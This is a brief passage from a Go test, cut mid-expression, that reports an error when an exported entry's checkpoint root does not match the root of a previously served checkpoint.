			entry.Data.CheckpointRoot != cp.Hex {
			t.Errorf("the bank export's entry is %s; the checkpoint served before it has %d leaves, root %s", leaf.Str("data"), cp.Size, cp.Text())
		}
	})
}
